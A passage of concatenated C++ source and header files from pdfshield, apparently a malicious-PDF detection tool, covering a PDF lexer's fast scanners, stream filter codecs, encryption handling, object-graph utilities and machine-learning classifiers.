  for (; i < n; ++i) {
    const std::uint8_t c = p[i];
    if (c == '\\' || c == '(' || c == ')') return i;
  }
  return n;
}

std::size_t scan_to_eol_swar(const std::uint8_t* p, std::size_t n) {
  constexpr std::uint64_t kCr = swar_broadcast('\r');
  constexpr std::uint64_t kLf = swar_broadcast('\n');
  std::size_t i = 0;
  for (; i + 8 <= n; i += 8) {
    const std::uint64_t w = load_word(p + i);
    const std::uint64_t marks = swar_match(w, kCr) | swar_match(w, kLf);
    if (marks != 0) return i + swar_first(marks);
  }
  for (; i < n; ++i) {
    if (p[i] == '\r' || p[i] == '\n') return i;
  }
  return n;
}

}  // namespace

const std::array<std::uint8_t, 256> kCharClass = make_char_class();
const std::array<std::int8_t, 256> kHexValue = make_hex_value();

std::size_t scan_regular_run_long(const std::uint8_t* p, std::size_t n,
                                  std::size_t from) {
  using support::simd::Level;
#if PDFSHIELD_X86
  if (support::simd::have(Level::kAVX2)) {
    return scan_regular_avx2(p, n, from);
  }
  if (support::simd::have(Level::kSSSE3)) {
    return scan_regular_ssse3(p, n, from);
  }
#endif
  return scan_regular_swar(p, n, from);
}

std::size_t scan_string_special(const std::uint8_t* p, std::size_t n) {
  using support::simd::Level;
#if PDFSHIELD_X86
  if (support::simd::have(Level::kSSSE3)) {
    return scan_string_special_sse2(p, n);
  }
#endif
  return scan_string_special_swar(p, n);
}

std::size_t scan_to_eol(const std::uint8_t* p, std::size_t n) {
  using support::simd::Level;
#if PDFSHIELD_X86
  if (support::simd::have(Level::kSSSE3)) {
    return scan_to_eol_sse2(p, n);
  }
#endif
  return scan_to_eol_swar(p, n);
}

}  // namespace pdfshield::pdf
