// Serializes a Document back to bytes: header, body, cross-reference table
// and trailer. Produces spec-conformant output readable by any PDF tool and
// by our own parser (round-trip property-tested).
#pragma once

#include <set>
#include <string>

#include "pdf/document.hpp"
#include "support/bytes.hpp"

namespace pdfshield::pdf {

struct WriteOptions {
  /// Overrides the header version; empty keeps the document's own (or 1.7).
  std::string force_version;
  /// Emits `junk_prefix_bytes` of comment padding before the %PDF header —
  /// used by the corpus generator's header-obfuscation transform (F2).
  std::size_t junk_prefix_bytes = 0;
};

/// Serializes the document.
support::Bytes write_document(const Document& doc, const WriteOptions& opts = {});

/// Incremental update (PDF Reference §3.4.5): appends only `changed`
/// objects to the original bytes, followed by a cross-reference section
/// for them and a trailer whose /Prev points at the original startxref.
/// The base document's bytes are untouched — this is how the paper's
/// front-end can instrument a 20 MB file without rewriting it.
support::Bytes write_incremental_update(support::BytesView original,
                                        const Document& updated,
                                        const std::set<int>& changed);

/// Serializes a single object expression (no "N G obj" wrapper).
std::string write_object(const Object& obj);

}  // namespace pdfshield::pdf
