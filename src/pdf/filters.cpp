#include "pdf/filters.hpp"

#include <array>
#include <map>

#include "flate/zlib.hpp"
#include "support/error.hpp"

namespace pdfshield::pdf {

using support::Bytes;
using support::BytesView;
using support::DecodeError;

namespace {

int hex_value(std::uint8_t c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

Bytes ascii_hex_decode(BytesView data) {
  Bytes out;
  int hi = -1;
  for (std::uint8_t c : data) {
    if (c == '>') break;  // EOD marker
    if (c == 0x00 || c == 0x09 || c == 0x0a || c == 0x0c || c == 0x0d || c == 0x20) {
      continue;
    }
    const int v = hex_value(c);
    if (v < 0) throw DecodeError("ASCIIHexDecode: invalid character");
    if (hi < 0) {
      hi = v;
    } else {
      out.push_back(static_cast<std::uint8_t>((hi << 4) | v));
      hi = -1;
    }
  }
  if (hi >= 0) out.push_back(static_cast<std::uint8_t>(hi << 4));
  return out;
}

Bytes ascii_hex_encode(BytesView data) {
  static const char kHex[] = "0123456789ABCDEF";
  Bytes out;
  out.reserve(data.size() * 2 + 1);
  for (std::uint8_t b : data) {
    out.push_back(static_cast<std::uint8_t>(kHex[b >> 4]));
    out.push_back(static_cast<std::uint8_t>(kHex[b & 0xf]));
  }
  out.push_back('>');
  return out;
}

Bytes ascii85_decode(BytesView data) {
  Bytes out;
  std::uint32_t tuple = 0;
  int count = 0;
  for (std::size_t i = 0; i < data.size(); ++i) {
    const std::uint8_t c = data[i];
    if (c == '~') break;  // "~>" EOD
    if (c == 0x00 || c == 0x09 || c == 0x0a || c == 0x0c || c == 0x0d || c == 0x20) {
      continue;
    }
    if (c == 'z' && count == 0) {
      out.insert(out.end(), 4, 0);
      continue;
    }
    if (c < '!' || c > 'u') throw DecodeError("ASCII85Decode: invalid character");
    tuple = tuple * 85 + static_cast<std::uint32_t>(c - '!');
    if (++count == 5) {
      for (int k = 3; k >= 0; --k) out.push_back(static_cast<std::uint8_t>(tuple >> (8 * k)));
      tuple = 0;
      count = 0;
    }
  }
  if (count == 1) throw DecodeError("ASCII85Decode: stray final digit");
  if (count > 1) {
    // Pad with 'u' (84) and emit count-1 bytes.
    for (int k = count; k < 5; ++k) tuple = tuple * 85 + 84;
    for (int k = 3; k >= 5 - count; --k) {
      out.push_back(static_cast<std::uint8_t>(tuple >> (8 * k)));
    }
  }
  return out;
}

Bytes ascii85_encode(BytesView data) {
  Bytes out;
  std::size_t i = 0;
  while (i + 4 <= data.size()) {
    std::uint32_t tuple = (static_cast<std::uint32_t>(data[i]) << 24) |
                          (static_cast<std::uint32_t>(data[i + 1]) << 16) |
                          (static_cast<std::uint32_t>(data[i + 2]) << 8) |
                          static_cast<std::uint32_t>(data[i + 3]);
    if (tuple == 0) {
      out.push_back('z');
    } else {
      std::array<std::uint8_t, 5> digits{};
      for (int k = 4; k >= 0; --k) {
        digits[static_cast<std::size_t>(k)] = static_cast<std::uint8_t>('!' + tuple % 85);
        tuple /= 85;
      }
      out.insert(out.end(), digits.begin(), digits.end());
    }
    i += 4;
  }
  const std::size_t rem = data.size() - i;
  if (rem > 0) {
    std::uint32_t tuple = 0;
    for (std::size_t k = 0; k < 4; ++k) {
      tuple = (tuple << 8) | (k < rem ? data[i + k] : 0);
    }
    std::array<std::uint8_t, 5> digits{};
    for (int k = 4; k >= 0; --k) {
      digits[static_cast<std::size_t>(k)] = static_cast<std::uint8_t>('!' + tuple % 85);
      tuple /= 85;
    }
    // Emit rem+1 digits.
    out.insert(out.end(), digits.begin(), digits.begin() + static_cast<std::ptrdiff_t>(rem + 1));
  }
  out.push_back('~');
  out.push_back('>');
  return out;
}

Bytes run_length_decode(BytesView data) {
  Bytes out;
  std::size_t i = 0;
  while (i < data.size()) {
    const std::uint8_t len = data[i++];
    if (len == 128) break;  // EOD
    if (len < 128) {
      const std::size_t count = static_cast<std::size_t>(len) + 1;
      if (i + count > data.size()) throw DecodeError("RunLengthDecode: literal run truncated");
      out.insert(out.end(), data.begin() + static_cast<std::ptrdiff_t>(i),
                 data.begin() + static_cast<std::ptrdiff_t>(i + count));
      i += count;
    } else {
      if (i >= data.size()) throw DecodeError("RunLengthDecode: repeat run truncated");
      out.insert(out.end(), static_cast<std::size_t>(257 - len), data[i]);
      ++i;
    }
  }
  return out;
}

Bytes run_length_encode(BytesView data) {
  Bytes out;
  std::size_t i = 0;
  while (i < data.size()) {
    // Find a run of identical bytes.
    std::size_t run = 1;
    while (i + run < data.size() && data[i + run] == data[i] && run < 128) ++run;
    if (run >= 2) {
      out.push_back(static_cast<std::uint8_t>(257 - run));
      out.push_back(data[i]);
      i += run;
    } else {
      // Literal run up to the next repeat or 128 bytes.
      std::size_t lit = 1;
      while (i + lit < data.size() && lit < 128) {
        if (i + lit + 1 < data.size() && data[i + lit] == data[i + lit + 1]) break;
        ++lit;
      }
      out.push_back(static_cast<std::uint8_t>(lit - 1));
      out.insert(out.end(), data.begin() + static_cast<std::ptrdiff_t>(i),
                 data.begin() + static_cast<std::ptrdiff_t>(i + lit));
      i += lit;
    }
  }
  out.push_back(128);
  return out;
}

// LZW decode (§3.3.3): variable-width codes 9..12 bits, MSB-first, with
// clear (256) and EOD (257) codes. EarlyChange handling defaults to 1.
Bytes lzw_decode(BytesView data, int early_change) {
  Bytes out;
  std::vector<Bytes> table;
  auto reset_table = [&]() {
    table.clear();
    table.reserve(4096);
    for (int i = 0; i < 256; ++i) table.push_back(Bytes{static_cast<std::uint8_t>(i)});
    table.push_back({});  // 256 clear
    table.push_back({});  // 257 EOD
  };
  reset_table();

  int code_width = 9;
  std::uint32_t acc = 0;
  int nbits = 0;
  std::size_t pos = 0;
  Bytes prev;
  while (true) {
    while (nbits < code_width && pos < data.size()) {
      acc = (acc << 8) | data[pos++];
      nbits += 8;
    }
    if (nbits < code_width) break;  // out of input: treat as end
    const std::uint32_t code = (acc >> (nbits - code_width)) & ((1u << code_width) - 1);
    nbits -= code_width;

    if (code == 256) {
      reset_table();
      code_width = 9;
      prev.clear();
      continue;
    }
    if (code == 257) break;

    Bytes entry;
    if (code < table.size()) {
      entry = table[code];
    } else if (code == table.size() && !prev.empty()) {
      entry = prev;
      entry.push_back(prev[0]);
    } else {
      throw DecodeError("LZWDecode: invalid code");
    }
    out.insert(out.end(), entry.begin(), entry.end());
    if (!prev.empty()) {
      Bytes next = prev;
      next.push_back(entry[0]);
      table.push_back(std::move(next));
    }
    prev = std::move(entry);
    const std::size_t limit = (1u << code_width) - static_cast<std::size_t>(early_change);
    if (table.size() >= limit && code_width < 12) ++code_width;
  }
  return out;
}

// PNG predictors (§3.3.1 / RFC 2083) applied after Flate/LZW decoding.
Bytes apply_png_predictor(BytesView data, int colors, int bpc, int columns) {
  const int bpp = std::max(1, colors * bpc / 8);
  const std::size_t row_len = static_cast<std::size_t>((columns * colors * bpc + 7) / 8);
  const std::size_t stride = row_len + 1;  // +1 predictor tag byte
  if (row_len == 0 || data.size() % stride != 0) {
    throw DecodeError("predictor: data size not a multiple of row stride");
  }
  Bytes out;
  out.reserve(data.size() / stride * row_len);
  Bytes prior(row_len, 0);
  for (std::size_t r = 0; r < data.size() / stride; ++r) {
    const std::uint8_t tag = data[r * stride];
    Bytes row(data.begin() + static_cast<std::ptrdiff_t>(r * stride + 1),
              data.begin() + static_cast<std::ptrdiff_t>(r * stride + 1 + row_len));
    for (std::size_t i = 0; i < row_len; ++i) {
      const std::uint8_t a = i >= static_cast<std::size_t>(bpp) ? row[i - static_cast<std::size_t>(bpp)] : 0;
      const std::uint8_t b = prior[i];
      const std::uint8_t c =
          i >= static_cast<std::size_t>(bpp) ? prior[i - static_cast<std::size_t>(bpp)] : 0;
      switch (tag) {
        case 0: break;
        case 1: row[i] = static_cast<std::uint8_t>(row[i] + a); break;
        case 2: row[i] = static_cast<std::uint8_t>(row[i] + b); break;
        case 3: row[i] = static_cast<std::uint8_t>(row[i] + (a + b) / 2); break;
        case 4: {
          const int p = a + b - c;
          const int pa = std::abs(p - a), pb = std::abs(p - b), pc = std::abs(p - c);
          const std::uint8_t pred = (pa <= pb && pa <= pc) ? a : (pb <= pc ? b : c);
          row[i] = static_cast<std::uint8_t>(row[i] + pred);
          break;
        }
        default:
          throw DecodeError("predictor: unknown PNG filter tag");
      }
    }
    out.insert(out.end(), row.begin(), row.end());
    prior = std::move(row);
  }
  return out;
}

// LZW encode (§3.3.3): the dual of lzw_decode, variable 9..12-bit codes
// MSB-first with clear/EOD markers and EarlyChange=1 semantics. The
// dictionary is the classic (prefix code, next byte) -> code map, so no
// string keys are materialized.
Bytes lzw_encode(BytesView data) {
  Bytes out;
  std::uint32_t acc = 0;
  int nbits = 0;
  int code_width = 9;
  auto emit = [&](std::uint32_t code) {
    acc = (acc << code_width) | code;
    nbits += code_width;
    while (nbits >= 8) {
      out.push_back(static_cast<std::uint8_t>((acc >> (nbits - 8)) & 0xff));
      nbits -= 8;
    }
  };

  std::map<std::pair<std::uint32_t, std::uint8_t>, std::uint32_t> table;
  std::uint32_t next_code = 258;
  auto reset_table = [&]() {
    table.clear();
    next_code = 258;
    code_width = 9;
  };

  emit(256);  // initial clear, as most writers do
  reset_table();
  std::int64_t current = -1;  // current prefix code; -1 = none
  for (std::uint8_t byte : data) {
    if (current < 0) {
      current = byte;
      continue;
    }
    auto it = table.find({static_cast<std::uint32_t>(current), byte});
    if (it != table.end()) {
      current = it->second;
      continue;
    }
    emit(static_cast<std::uint32_t>(current));
    table[{static_cast<std::uint32_t>(current), byte}] = next_code++;
    // EarlyChange=1: widen one code earlier than strictly necessary.
    if (next_code + 1 > (1u << code_width) && code_width < 12) ++code_width;
    if (next_code >= 4095) {
      emit(256);
      reset_table();
    }
    current = byte;
  }
  if (current >= 0) emit(static_cast<std::uint32_t>(current));
  emit(257);  // EOD
  if (nbits > 0) {
    out.push_back(static_cast<std::uint8_t>((acc << (8 - nbits)) & 0xff));
  }
  return out;
}

int int_param(const Dict* params, std::string_view key, int fallback) {
  if (!params) return fallback;
  const Object* v = params->find(key);
  if (!v || !v->is_int()) return fallback;
  return static_cast<int>(v->as_int());
}

}  // namespace

// Decompression-bomb guard: one filter application may not expand past this
// (well above any legitimate PDF stream, well below address-space trouble —
// a hostile document can nest filters, so the cap applies per level).
constexpr std::size_t kMaxDecodedStreamBytes = std::size_t{1} << 28;  // 256 MiB

Bytes decode_filter(std::string_view filter_name, BytesView data,
                    const Dict* params) {
  if (filter_name == "FlateDecode" || filter_name == "Fl") {
    Bytes plain =
        pdfshield::flate::zlib_decompress(data, kMaxDecodedStreamBytes);
    const int predictor = int_param(params, "Predictor", 1);
    if (predictor >= 10) {
      return apply_png_predictor(plain, int_param(params, "Colors", 1),
                                 int_param(params, "BitsPerComponent", 8),
                                 int_param(params, "Columns", 1));
    }
    if (predictor != 1) throw DecodeError("unsupported TIFF predictor");
    return plain;
  }
  if (filter_name == "ASCIIHexDecode" || filter_name == "AHx") {
    return ascii_hex_decode(data);
  }
  if (filter_name == "ASCII85Decode" || filter_name == "A85") {
    return ascii85_decode(data);
  }
  if (filter_name == "RunLengthDecode" || filter_name == "RL") {
    return run_length_decode(data);
  }
  if (filter_name == "LZWDecode" || filter_name == "LZW") {
    return lzw_decode(data, int_param(params, "EarlyChange", 1));
  }
  throw DecodeError("unsupported filter: " + std::string(filter_name));
}

Bytes encode_filter(std::string_view filter_name, BytesView data) {
  if (filter_name == "FlateDecode" || filter_name == "Fl") {
    return pdfshield::flate::zlib_compress(data);
  }
  if (filter_name == "ASCIIHexDecode" || filter_name == "AHx") {
    return ascii_hex_encode(data);
  }
  if (filter_name == "ASCII85Decode" || filter_name == "A85") {
    return ascii85_encode(data);
  }
  if (filter_name == "RunLengthDecode" || filter_name == "RL") {
    return run_length_encode(data);
  }
  if (filter_name == "LZWDecode" || filter_name == "LZW") {
    return lzw_encode(data);
  }
  throw DecodeError("unsupported encode filter: " + std::string(filter_name));
}

std::vector<std::string> filter_chain(const Dict& stream_dict) {
  std::vector<std::string> chain;
  const Object* f = stream_dict.find("Filter");
  if (!f) return chain;
  if (f->is_name()) {
    chain.emplace_back(f->as_name().value);
  } else if (f->is_array()) {
    for (const Object& item : f->as_array()) {
      if (item.is_name()) chain.emplace_back(item.as_name().value);
    }
  }
  return chain;
}

Bytes decode_stream(const Stream& stream) {
  std::vector<std::string> chain = filter_chain(stream.dict);
  Bytes data = stream.data.copy();
  const Object* parms = stream.dict.find("DecodeParms");
  if (!parms) parms = stream.dict.find("DP");
  for (std::size_t i = 0; i < chain.size(); ++i) {
    const Dict* p = nullptr;
    if (parms) {
      if (parms->is_dict() && chain.size() == 1) {
        p = &parms->as_dict();
      } else if (parms->is_array() && i < parms->as_array().size() &&
                 parms->as_array()[i].is_dict()) {
        p = &parms->as_array()[i].as_dict();
      }
    }
    data = decode_filter(chain[i], data, p);
  }
  return data;
}

EncodedStream encode_stream(BytesView plain,
                            const std::vector<std::string>& chain) {
  EncodedStream out;
  out.data.assign(plain.begin(), plain.end());
  // Encoding applies the chain innermost-first: the last decode step is the
  // first encode step.
  for (auto it = chain.rbegin(); it != chain.rend(); ++it) {
    out.data = encode_filter(*it, out.data);
  }
  if (chain.empty()) {
    out.filter = Object::null();
  } else if (chain.size() == 1) {
    out.filter = Object::name(chain[0]);
  } else {
    Array arr;
    for (const auto& name : chain) arr.push_back(Object::name(name));
    out.filter = Object(std::move(arr));
  }
  return out;
}

}  // namespace pdfshield::pdf
