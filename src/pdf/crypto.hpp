// PDF encryption (PDF Reference §3.5): RC4 and the Standard security
// handler, revisions 2 and 3. Enough to (a) create owner-password-
// protected documents in the corpus generator (a common anti-analysis
// trick in malicious PDFs — readable with an empty user password, but
// non-modifiable) and (b) let the front-end "remove the owner's password"
// before instrumentation, as the paper's Phase I does (§III-A).
#pragma once

#include <optional>
#include <string>

#include "pdf/document.hpp"
#include "support/bytes.hpp"
#include "support/rng.hpp"

namespace pdfshield::pdf {

/// RC4 stream cipher (symmetric: encrypt == decrypt).
support::Bytes rc4(support::BytesView key, support::BytesView data);

/// Parameters for the Standard security handler.
struct EncryptionParams {
  int revision = 3;            ///< /R (2 or 3)
  int key_length_bytes = 5;    ///< 40-bit (R2) .. 16-byte (R3) keys
  support::Bytes o_entry;      ///< /O, 32 bytes
  support::Bytes u_entry;      ///< /U, 32 bytes
  std::int32_t permissions = -44;  ///< /P (print/copy restricted)
  support::Bytes file_id;      ///< first element of the trailer /ID
};

/// Derives the file encryption key from a (possibly empty) user password
/// (Algorithm 3.2). Owner-password-only protection leaves the user
/// password empty, which is why such documents open everywhere and why
/// "password recovery" is trivial.
support::Bytes compute_file_key(const EncryptionParams& params,
                                const std::string& user_password);

/// Computes the /O entry from the owner password (Algorithm 3.3).
support::Bytes compute_o_entry(const std::string& owner_password,
                               const std::string& user_password, int revision,
                               int key_length_bytes);

/// Computes the /U entry (Algorithms 3.4 / 3.5).
support::Bytes compute_u_entry(const EncryptionParams& params,
                               const std::string& user_password);

/// Verifies a user password against /U. Empty string checks the
/// owner-password-only case.
bool verify_user_password(const EncryptionParams& params,
                          const std::string& user_password);

/// Per-object key (Algorithm 3.1) + RC4 of string/stream data.
support::Bytes crypt_object_data(const support::Bytes& file_key, int obj_num,
                                 int gen, support::BytesView data);

/// Encrypts every string and stream of `doc` in place and installs the
/// /Encrypt dictionary + /ID. Protection is owner-password-only (empty
/// user password), the malicious-PDF norm.
void encrypt_document(Document& doc, const std::string& owner_password,
                      support::Rng& rng, int revision = 3);

/// True when the document carries a Standard-handler /Encrypt dictionary.
bool is_encrypted(const Document& doc);

/// Removes the protection: verifies the (empty) user password, decrypts
/// every string and stream in place, drops /Encrypt. Returns false when
/// the password does not verify or the handler is unsupported.
bool decrypt_document(Document& doc, const std::string& user_password = "");

}  // namespace pdfshield::pdf
