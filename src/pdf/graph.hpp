// Object-graph utilities over a Document: outgoing references, parent maps
// and reachability. The core library's Javascript-chain reconstruction
// (backtrack to ancestors, forward-search descendants — paper §III-C) is
// built on these primitives.
#pragma once

#include <set>
#include <unordered_map>
#include <vector>

#include "pdf/document.hpp"

namespace pdfshield::pdf {

/// All indirect references contained (recursively) in `obj`, in encounter
/// order, duplicates preserved.
std::vector<Ref> collect_refs(const Object& obj);

/// Directed reference graph of a document.
class ObjectGraph {
 public:
  explicit ObjectGraph(const Document& doc);

  /// Object numbers `num` references directly.
  const std::vector<int>& children(int num) const;

  /// Object numbers that reference `num` directly.
  const std::vector<int>& parents(int num) const;

  /// Every object number reachable from `num` (excluding `num` itself
  /// unless it participates in a cycle back to itself).
  std::set<int> descendants(int num) const;

  /// Every object number from which `num` is reachable.
  std::set<int> ancestors(int num) const;

  /// All object numbers in the document.
  const std::vector<int>& all_objects() const { return all_; }

 private:
  // Hash maps: adjacency is looked up per node during chain reconstruction
  // and never iterated, so ordering buys nothing. all_ carries the
  // deterministic (document) order for anyone who needs to walk every node.
  std::unordered_map<int, std::vector<int>> children_;
  std::unordered_map<int, std::vector<int>> parents_;
  std::vector<int> all_;
  std::vector<int> empty_;
};

}  // namespace pdfshield::pdf
