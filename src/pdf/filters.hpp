// PDF stream filters (PDF Reference §3.3). Decode is implemented for the
// filters that appear in real-world (and malicious) documents; encode is
// implemented for the subset the corpus generator and instrumenter emit.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "pdf/object.hpp"
#include "support/bytes.hpp"

namespace pdfshield::pdf {

/// Decodes one filter application. Supported: FlateDecode (+ PNG/TIFF
/// predictors via `params`), ASCIIHexDecode, ASCII85Decode,
/// RunLengthDecode, LZWDecode. Throws DecodeError for unsupported filters
/// or corrupt data.
support::Bytes decode_filter(std::string_view filter_name,
                             support::BytesView data, const Dict* params);

/// Encodes one filter application. Supported: FlateDecode, ASCIIHexDecode,
/// ASCII85Decode, RunLengthDecode.
support::Bytes encode_filter(std::string_view filter_name,
                             support::BytesView data);

/// The stream's filter chain in application order (first element is applied
/// first when decoding). Empty when the stream is unfiltered.
std::vector<std::string> filter_chain(const Dict& stream_dict);

/// Fully decodes a stream's data by applying its /Filter chain.
support::Bytes decode_stream(const Stream& stream);

/// Re-encodes `plain` with the given chain (decode-order names; the first
/// name is the outermost decode step) and returns the stored bytes plus the
/// /Filter object to place in the stream dictionary.
struct EncodedStream {
  support::Bytes data;
  Object filter;  ///< Name, Array of names, or null when chain is empty.
};
EncodedStream encode_stream(support::BytesView plain,
                            const std::vector<std::string>& chain);

}  // namespace pdfshield::pdf
