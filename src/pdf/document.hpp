// In-memory PDF document: indirect object store + trailer + header info.
#pragma once

#include <map>
#include <optional>
#include <string>

#include "pdf/object.hpp"

namespace pdfshield::pdf {

/// Where and how the %PDF header was found (feature F2 input).
struct HeaderInfo {
  bool found = false;
  std::size_t offset = 0;      ///< Byte offset of "%PDF" in the file.
  std::string version;         ///< e.g. "1.7"; empty if malformed.
  bool version_valid = false;  ///< Version is one of the published 1.0–2.0.
};

class Document {
 public:
  /// Adds an object under the next free number; returns its reference.
  Ref add_object(Object obj);

  /// Inserts/overwrites the object with a specific number.
  void set_object(Ref ref, Object obj);

  /// Looks up an object; nullptr when absent. Generation is ignored (the
  /// store keeps the newest definition, as an incremental-update reader
  /// would).
  const Object* object(Ref ref) const;
  Object* object(Ref ref);

  /// Dereferences `obj` through any chain of indirect references, with a
  /// cycle guard. Missing targets resolve to null.
  const Object& resolve(const Object& obj) const;

  /// Resolves a dictionary entry (key lookup + reference chasing); nullptr
  /// when the key is absent.
  const Object* resolved_find(const Dict& dict, std::string_view key) const;

  std::size_t object_count() const { return objects_.size(); }
  int max_object_number() const;
  const std::map<int, Object>& objects() const { return objects_; }
  std::map<int, Object>& objects() { return objects_; }

  /// The document catalog (trailer /Root, resolved), or nullptr.
  const Object* catalog() const;

  Dict& trailer() { return trailer_; }
  const Dict& trailer() const { return trailer_; }

  HeaderInfo& header() { return header_; }
  const HeaderInfo& header() const { return header_; }

  /// Decodes every stream in place: data is replaced by its decoded form,
  /// /Filter and /DecodeParms are dropped, /Length corrected. Streams whose
  /// filters fail to decode are left untouched. Returns the number of
  /// streams decoded.
  std::size_t decompress_all();

 private:
  std::map<int, Object> objects_;
  Dict trailer_;
  HeaderInfo header_;
  mutable const Object* null_singleton_ = nullptr;
};

/// The published PDF versions; used to validate headers.
bool is_known_pdf_version(std::string_view version);

}  // namespace pdfshield::pdf
