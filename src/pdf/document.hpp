// In-memory PDF document: indirect object store + trailer + header info.
//
// A parsed document owns (a handle to) the arena its object graph borrows
// from: the once-copied input buffer, decoded token storage and container
// nodes all live there, so dropping the last handle frees the whole graph
// in O(1). Builder-constructed documents (no arena) keep plain heap
// semantics. Copying a Document always detaches: the copy is fully
// owning and independent of any arena.
#pragma once

#include <map>
#include <memory>
#include <memory_resource>
#include <optional>
#include <string>

#include "pdf/object.hpp"
#include "support/arena.hpp"

namespace pdfshield::pdf {

/// Where and how the %PDF header was found (feature F2 input).
struct HeaderInfo {
  bool found = false;
  std::size_t offset = 0;      ///< Byte offset of "%PDF" in the file.
  std::string version;         ///< e.g. "1.7"; empty if malformed.
  bool version_valid = false;  ///< Version is one of the published 1.0–2.0.
};

class Document {
 public:
  /// Ordered by object number: the writer's output layout and
  /// max_object_number() depend on in-order iteration.
  using ObjectMap = std::pmr::map<int, Object>;

  Document();
  /// Builds the object store inside `arena` and keeps the handle alive.
  explicit Document(support::ArenaHandle arena);

  Document(Document&&) noexcept = default;
  /// Member-wise move assignment would drop the old arena handle before
  /// destroying the old object map that deallocates into it, so assignment
  /// tears the old document down (graph first, arena last) and rebuilds.
  Document& operator=(Document&& other) noexcept;
  /// Deep, detaching copy: the result owns all its storage and carries no
  /// arena handle.
  Document(const Document& other);
  Document& operator=(const Document& other);
  ~Document() = default;

  /// Adds an object under the next free number; returns its reference.
  Ref add_object(Object obj);

  /// Inserts/overwrites the object with a specific number.
  void set_object(Ref ref, Object obj);

  /// Looks up an object; nullptr when absent. Generation is ignored (the
  /// store keeps the newest definition, as an incremental-update reader
  /// would).
  const Object* object(Ref ref) const;
  Object* object(Ref ref);

  /// Dereferences `obj` through any chain of indirect references, with a
  /// cycle guard. Missing targets resolve to null.
  const Object& resolve(const Object& obj) const;

  /// Resolves a dictionary entry (key lookup + reference chasing); nullptr
  /// when the key is absent.
  const Object* resolved_find(const Dict& dict, std::string_view key) const;

  std::size_t object_count() const { return objects_->size(); }
  int max_object_number() const;
  const ObjectMap& objects() const { return *objects_; }
  ObjectMap& objects() { return *objects_; }

  /// The arena this document's graph borrows from; null for builder-made
  /// documents.
  const support::ArenaHandle& arena() const { return arena_; }
  /// Returns the document's arena, creating (and adopting) one if absent,
  /// so borrowed payloads can be given a lifetime tied to this document.
  const support::ArenaHandle& ensure_arena();

  /// The document catalog (trailer /Root, resolved), or nullptr.
  const Object* catalog() const;

  Dict& trailer() { return trailer_; }
  const Dict& trailer() const { return trailer_; }

  HeaderInfo& header() { return header_; }
  const HeaderInfo& header() const { return header_; }

  /// Decodes every stream in place: data is replaced by its decoded form,
  /// /Filter and /DecodeParms are dropped, /Length corrected. Streams whose
  /// filters fail to decode are left untouched. Returns the number of
  /// streams decoded.
  std::size_t decompress_all();

 private:
  struct MapDeleter {
    bool arena_backed = false;
    void operator()(ObjectMap* m) const;
  };
  using MapPtr = std::unique_ptr<ObjectMap, MapDeleter>;

  static MapPtr make_map(const support::ArenaHandle& arena);

  // Declaration order matters: the arena handle must outlive the object
  // map that borrows from it (members destroy in reverse order).
  support::ArenaHandle arena_;
  MapPtr objects_;
  Dict trailer_;
  HeaderInfo header_;
};

/// The published PDF versions; used to validate headers.
bool is_known_pdf_version(std::string_view version);

}  // namespace pdfshield::pdf
