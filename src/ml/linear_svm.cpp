#include "ml/linear_svm.hpp"

#include <numeric>

namespace pdfshield::ml {

void LinearSvm::train(const Dataset& data, support::Rng& rng) {
  const std::size_t d = data.feature_count();
  w_.assign(d, 0.0);
  b_ = 0.0;
  if (data.size() == 0) return;

  std::vector<std::size_t> order(data.size());
  std::iota(order.begin(), order.end(), 0);

  // Pegasos: step size 1/(lambda * t).
  std::size_t t = 1;
  for (int epoch = 0; epoch < config_.epochs; ++epoch) {
    rng.shuffle(order);
    for (std::size_t idx : order) {
      const FeatureVector& x = data.x[idx];
      const double y = data.y[idx] == 1 ? 1.0 : -1.0;
      const double eta = 1.0 / (config_.lambda * static_cast<double>(t));
      double margin = b_;
      for (std::size_t j = 0; j < d; ++j) margin += w_[j] * x[j];
      margin *= y;

      // L2 shrink (bias treated as an augmented, regularized weight —
      // updating it unregularized makes the first huge Pegasos steps
      // swing the intercept wildly).
      const double shrink = 1.0 - eta * config_.lambda;
      for (double& wj : w_) wj *= shrink;
      b_ *= shrink;
      if (margin < 1.0) {
        for (std::size_t j = 0; j < d; ++j) w_[j] += eta * y * x[j];
        b_ += eta * y * 0.1;  // damped intercept learning rate
      }
      ++t;
    }
  }
}

double LinearSvm::decision(const FeatureVector& x) const {
  double v = b_;
  const std::size_t d = std::min(x.size(), w_.size());
  for (std::size_t j = 0; j < d; ++j) v += w_[j] * x[j];
  return v;
}

}  // namespace pdfshield::ml
