#include "ml/decision_tree.hpp"

#include <algorithm>
#include <numeric>

namespace pdfshield::ml {

namespace {

double gini(std::size_t positives, std::size_t total) {
  if (total == 0) return 0.0;
  const double p = static_cast<double>(positives) / static_cast<double>(total);
  return 2.0 * p * (1.0 - p);
}

}  // namespace

void DecisionTree::train(const Dataset& data, support::Rng& rng) {
  nodes_.clear();
  if (data.size() == 0) {
    nodes_.push_back(Node{});
    return;
  }
  std::vector<std::size_t> indices(data.size());
  std::iota(indices.begin(), indices.end(), 0);
  build(indices, data, 0, rng);
}

int DecisionTree::build(const std::vector<std::size_t>& indices,
                        const Dataset& data, int depth, support::Rng& rng) {
  const int node_id = static_cast<int>(nodes_.size());
  nodes_.push_back(Node{});

  std::size_t positives = 0;
  for (std::size_t i : indices) positives += static_cast<std::size_t>(data.y[i]);
  nodes_[static_cast<std::size_t>(node_id)].malicious_fraction =
      indices.empty() ? 0.0
                      : static_cast<double>(positives) /
                            static_cast<double>(indices.size());

  const bool pure = positives == 0 || positives == indices.size();
  if (pure || depth >= config_.max_depth ||
      indices.size() < 2 * config_.min_samples_leaf) {
    return node_id;
  }

  // Candidate features (all, or a random subset for forests).
  const std::size_t d = data.feature_count();
  std::vector<std::size_t> features(d);
  std::iota(features.begin(), features.end(), 0);
  if (config_.feature_subsample > 0 && config_.feature_subsample < d) {
    rng.shuffle(features);
    features.resize(config_.feature_subsample);
  }

  double best_score = gini(positives, indices.size());
  int best_feature = -1;
  double best_threshold = 0.0;

  for (std::size_t f : features) {
    // Sort indices by this feature; evaluate splits between distinct values.
    std::vector<std::size_t> sorted = indices;
    std::sort(sorted.begin(), sorted.end(), [&](std::size_t a, std::size_t b) {
      return data.x[a][f] < data.x[b][f];
    });
    std::size_t left_pos = 0;
    for (std::size_t k = 1; k < sorted.size(); ++k) {
      left_pos += static_cast<std::size_t>(data.y[sorted[k - 1]]);
